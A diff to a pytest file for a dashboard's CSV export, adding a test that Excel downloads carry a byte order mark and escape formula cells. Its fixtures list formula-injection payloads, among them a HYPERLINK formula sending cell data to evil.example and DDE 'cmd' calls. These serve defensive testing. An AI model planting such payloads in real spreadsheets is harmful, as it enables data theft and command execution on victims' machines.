@@ -9,7 +9,7 @@ import pytest
 
 from dashboard.enums import Role
 from dashboard.services.data import exports
-from dashboard.services.data.spreadsheet import frame_csv, inert, rows_csv
+from dashboard.services.data.spreadsheet import for_excel, frame_csv, inert, rows_csv
 from tests.factories import make_report, make_stream, make_user
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -41,3 +41,9 @@ def test_report_text_exports_as_text(session):
     rows = list(csv.DictReader(io.StringIO(exports.export(session, actor=admin, kind="reports"))))
     texts = {r["text"] for r in rows}
     assert "'" + ATTACKS[0] in texts and ATTACKS[0] not in texts
+
+
+def test_downloads_carry_a_byte_order_mark_for_excel():
+    data = for_excel(rows_csv(["直播", "原因"], [["老王面馆", "=1+1"]]))
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["直播", "原因"], ["老王面馆", "'=1+1"]]
